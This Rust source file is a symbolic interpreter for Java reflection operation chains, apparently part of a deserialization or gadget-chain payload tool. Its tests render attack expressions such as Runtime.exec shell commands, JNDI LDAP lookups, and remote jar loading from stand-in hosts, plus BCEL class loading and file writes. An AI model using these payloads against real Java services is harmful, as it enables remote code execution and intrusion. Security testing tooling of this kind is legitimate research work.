//! Symbolic chain interpreter
//!
//! Replays an [`OperationChain`] without a JVM, tracking what the current
//! value *is* (a class, a resolved member, an object) and rendering the
//! equivalent Java expression. Used for logging and for checking that a
//! chain is well formed before it is lowered.

use crate::error::{Error, Result};
use crate::ir::{Invocation, Operation, OperationChain, Value};

/// Current value during interpretation
#[derive(Debug, Clone, PartialEq)]
pub enum Symbol {
    /// A constant that is neither a class nor an object
    Literal(Value),
    /// A class named by a literal
    Class(String),
    /// A class produced at run time (`loadClass`, `defineClass`)
    LoadedClass(String),
    /// A method resolved on a class
    Method {
        /// Expression of the declaring class
        owner: String,
        /// Method name
        name: String,
        /// Parameter count of the resolved method
        arity: usize,
    },
    /// A constructor resolved on a class
    Constructor {
        /// Expression of the declaring class
        owner: String,
        /// Whether `owner` is a run-time class
        loaded: bool,
        /// Parameter count of the resolved constructor
        arity: usize,
    },
    /// Any other object
    Object(String),
}

impl Symbol {
    /// Java-like rendering of the value
    pub fn render(&self) -> String {
        match self {
            Symbol::Literal(value) => render_value(value),
            Symbol::Class(expr) | Symbol::LoadedClass(expr) | Symbol::Object(expr) => {
                expr.clone()
            }
            Symbol::Method { owner, name, .. } => format!("{owner}#{name}"),
            Symbol::Constructor { owner, .. } => format!("{owner}#<init>"),
        }
    }
}

/// Result of tracing a chain
#[derive(Debug, Clone, PartialEq)]
pub struct Trace {
    /// Value after each step, sentinel excluded
    pub states: Vec<Symbol>,
}

impl Trace {
    /// Value produced by the last step before the sentinel
    pub fn result(&self) -> Option<&Symbol> {
        self.states.last()
    }

    /// Rendered expression of the final value
    pub fn expression(&self) -> String {
        self.result().map(Symbol::render).unwrap_or_default()
    }
}

/// Symbolic interpreter
#[derive(Debug, Default)]
pub struct Vm {
    current: Option<Symbol>,
    states: Vec<Symbol>,
}

impl Vm {
    /// Trace a chain
    pub fn trace(chain: &OperationChain) -> Result<Trace> {
        Self::trace_operations(chain.operations())
    }

    /// Trace raw operations, which must end in the sentinel
    pub fn trace_operations(ops: &[Operation]) -> Result<Trace> {
        let Some((last, steps)) = ops.split_last() else {
            return Err(Error::MalformedChain("empty chain".to_string()));
        };
        if !last.is_sentinel() {
            return Err(Error::MalformedChain("missing sentinel".to_string()));
        }

        let mut vm = Vm::default();
        for (index, op) in steps.iter().enumerate() {
            vm.step(op)
                .map_err(|e| Error::MalformedChain(format!("step {index}: {e}")))?;
        }
        Ok(Trace { states: vm.states })
    }

    fn step(&mut self, op: &Operation) -> std::result::Result<(), String> {
        let next = match op {
            Operation::Constant(Value::Class(t)) => Symbol::Class(t.java_name()),
            Operation::Constant(value) => Symbol::Literal(value.clone()),
            Operation::ResolveMember { .. } | Operation::Invoke(_) => {
                let current = self
                    .current
                    .take()
                    .ok_or_else(|| "chain does not start with a constant".to_string())?;
                let invocation = op
                    .invocation()
                    .ok_or_else(|| "operation has no invocation".to_string())?;
                apply(current, &invocation)?
            }
        };
        self.states.push(next.clone());
        self.current = Some(next);
        Ok(())
    }
}

fn apply(current: Symbol, call: &Invocation) -> std::result::Result<Symbol, String> {
    let method = call.method.as_str();
    let args = call.args.as_slice();

    let (owner, loaded) = match current {
        Symbol::Class(owner) => (owner, false),
        Symbol::LoadedClass(owner) => (owner, true),

        Symbol::Method { owner, name, arity } => {
            if method != "invoke" {
                return Err(format!("cannot call {method} on method {owner}#{name}"));
            }
            let [target, Value::Array { items, .. }] = args else {
                return Err("invoke expects a target and an Object[]".to_string());
            };
            check_arity(&name, arity, items.len())?;
            let receiver = match target {
                Value::Null => owner,
                other => render_value(other),
            };
            return Ok(Symbol::Object(format!(
                "{receiver}.{name}({})",
                render_args(items)
            )));
        }

        Symbol::Constructor {
            owner,
            loaded,
            arity,
        } => {
            if method != "newInstance" {
                return Err(format!("cannot call {method} on constructor of {owner}"));
            }
            let [Value::Array { items, .. }] = args else {
                return Err("newInstance expects an argument array".to_string());
            };
            check_arity("<init>", arity, items.len())?;
            return Ok(Symbol::Object(instantiate(&owner, loaded, items)));
        }

        Symbol::Literal(value) => {
            return Err(format!(
                "cannot call {method} on constant {}",
                render_value(&value)
            ));
        }

        Symbol::Object(receiver) => return call_on(receiver, call),
    };

    match (method, args) {
        ("getMethod", [Value::Str(name), types]) => Ok(Symbol::Method {
            owner,
            name: name.clone(),
            arity: array_len(types)?,
        }),
        ("getMethod", _) => Err("getMethod expects a name and a Class[]".to_string()),
        ("getConstructor" | "getDeclaredConstructor", [types]) => Ok(Symbol::Constructor {
            owner,
            loaded,
            arity: array_len(types)?,
        }),
        ("getConstructor" | "getDeclaredConstructor", _) => {
            Err(format!("{method} expects a Class[]"))
        }
        ("newInstance", []) => Ok(Symbol::Object(instantiate(&owner, loaded, &[]))),
        _ => call_on(owner, call),
    }
}

/// Plain method call on an object or class expression
fn call_on(receiver: String, call: &Invocation) -> std::result::Result<Symbol, String> {
    let method = call.method.as_str();
    if call.param_types.len() != call.args.len() {
        return Err(format!(
            "{method} declares {} parameters but got {} arguments",
            call.param_types.len(),
            call.args.len()
        ));
    }
    let expr = format!("{receiver}.{method}({})", render_args(&call.args));
    if matches!(method, "loadClass" | "defineClass") {
        Ok(Symbol::LoadedClass(expr))
    } else {
        Ok(Symbol::Object(expr))
    }
}

fn instantiate(owner: &str, loaded: bool, args: &[Value]) -> String {
    if loaded {
        format!("{owner}.newInstance({})", render_args(args))
    } else {
        format!("new {owner}({})", render_args(args))
    }
}

fn array_len(value: &Value) -> std::result::Result<usize, String> {
    match value {
        Value::Array { items, .. } => Ok(items.len()),
        other => Err(format!("expected an array, got {}", render_value(other))),
    }
}

fn check_arity(name: &str, declared: usize, given: usize) -> std::result::Result<(), String> {
    if declared == given {
        Ok(())
    } else {
        Err(format!(
            "{name} takes {declared} arguments but {given} were supplied"
        ))
    }
}

fn render_args(items: &[Value]) -> String {
    items.iter().map(render_value).collect::<Vec<_>>().join(", ")
}

/// Java-literal rendering of a value; byte arrays are abbreviated
pub fn render_value(value: &Value) -> String {
    match value {
        Value::Null => "null".to_string(),
        Value::Int(i) => i.to_string(),
        Value::Long(l) => format!("{l}L"),
        Value::Str(s) => format!("{s:?}"),
        Value::Bytes(b) => format!("byte[{}]", b.len()),
        Value::Class(t) => format!("{}.class", t.source_name()),
        Value::Url(spec) => format!("new java.net.URL({spec:?})"),
        Value::Array { component, items } => format!(
            "new {}[]{{{}}}",
            component.source_name(),
            render_args(items)
        ),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::compiler::CommandCompiler;
    use rstest::rstest;

    fn expression(command: &str) -> String {
        let chain = CommandCompiler::default().compile(command).unwrap();
        Vm::trace(&chain).unwrap().expression()
    }

    #[rstest]
    #[case("raw_cmd:id", r#"java.lang.Runtime.getRuntime().exec("id")"#)]
    #[case(
        "linux_cmd:id",
        r#"java.lang.Runtime.getRuntime().exec(new java.lang.String[]{"/bin/sh", "-c", "id"})"#
    )]
    #[case("sleep:2", "java.lang.Thread.sleep(2000L)")]
    #[case("dnslog:a.b", r#"java.net.InetAddress.getAllByName("a.b")"#)]
    #[case("httplog:http://a/", r#"new java.net.URL("http://a/").getContent()"#)]
    #[case("jndi:ldap://h/x", r#"new javax.naming.InitialContext().lookup("ldap://h/x")"#)]
    #[case(
        "script_base64:e3twYXJhbTB9fQ==",
        r#"new javax.script.ScriptEngineManager().getEngineByName("js").eval("{{param0}}")"#
    )]
    #[case(
        "loadjar:http://h/x.jar|a.B",
        r#"new java.net.URLClassLoader(new java.net.URL[]{new java.net.URL("http://h/x.jar")}).loadClass("a.B").newInstance()"#
    )]
    #[case(
        "upload_file_base64:/tmp/x|aGk=",
        r#"new java.io.FileOutputStream("/tmp/x").write(byte[2])"#
    )]
    fn test_trace_renders_expression(#[case] command: &str, #[case] expected: &str) {
        assert_eq!(expression(command), expected);
    }

    #[test]
    fn test_loaded_class_is_a_class() {
        let chain = CommandCompiler::default()
            .compile("bcel_with_args:$$BCEL$$x|arg")
            .unwrap();
        let trace = Vm::trace(&chain).unwrap();
        // loadClass result, then getConstructor on it
        assert!(matches!(trace.states[3], Symbol::LoadedClass(_)));
        assert!(matches!(
            trace.states[4],
            Symbol::Constructor {
                arity: 1,
                loaded: true,
                ..
            }
        ));
        assert_eq!(
            trace.expression(),
            r#"new com.sun.org.apache.bcel.internal.util.ClassLoader().loadClass("$$BCEL$$x").newInstance("arg")"#
        );
    }

    #[test]
    fn test_mozilla_define_then_construct() {
        let chain = CommandCompiler::default()
            .compile("mozilla_defining_class_loader:a.B|yv66vg==")
            .unwrap();
        let trace = Vm::trace(&chain).unwrap();
        assert_eq!(
            trace.expression(),
            r#"new org.mozilla.javascript.DefiningClassLoader().defineClass("a.B", byte[4]).newInstance()"#
        );
    }

    #[test]
    fn test_spliced_chain_traces_last_segment() {
        let compiler = CommandCompiler::default();
        let spliced = OperationChain::splice([
            compiler.compile("dnslog:a.b").unwrap(),
            compiler.compile("raw_cmd:id").unwrap(),
        ]);
        assert_eq!(
            Vm::trace(&spliced).unwrap().expression(),
            r#"java.lang.Runtime.getRuntime().exec("id")"#
        );
    }

    #[test]
    fn test_missing_sentinel_is_malformed() {
        let chain = CommandCompiler::default().compile("raw_cmd:id").unwrap();
        let err = Vm::trace_operations(chain.steps()).unwrap_err();
        assert_eq!(err.to_string(), "malformed operation chain: missing sentinel");
        assert!(Vm::trace_operations(&[]).is_err());
    }

    #[test]
    fn test_invoke_without_member_is_malformed() {
        let ops = vec![
            Operation::Constant(Value::class("java.lang.Runtime")),
            Operation::invoke_static(vec![]),
            Operation::SENTINEL,
        ];
        let err = Vm::trace_operations(&ops).unwrap_err();
        assert!(matches!(err, Error::MalformedChain(_)));
    }

    #[test]
    fn test_chain_must_start_with_constant() {
        let ops = vec![Operation::get_method("exec", vec![]), Operation::SENTINEL];
        assert!(matches!(
            Vm::trace_operations(&ops),
            Err(Error::MalformedChain(_))
        ));
    }

    #[test]
    fn test_arity_mismatch_is_malformed() {
        let ops = vec![
            Operation::Constant(Value::class("java.lang.Thread")),
            Operation::get_method(
                "sleep",
                vec![crate::ir::TypeRef::Primitive(crate::ir::Primitive::Long)],
            ),
            Operation::invoke_static(vec![]),
            Operation::SENTINEL,
        ];
        assert!(Vm::trace_operations(&ops).is_err());
    }

    #[test]
    fn test_call_on_literal_is_malformed() {
        let ops = vec![
            Operation::Constant(Value::Int(1)),
            Operation::call("toString", vec![], vec![]),
            Operation::SENTINEL,
        ];
        assert!(Vm::trace_operations(&ops).is_err());
    }
}
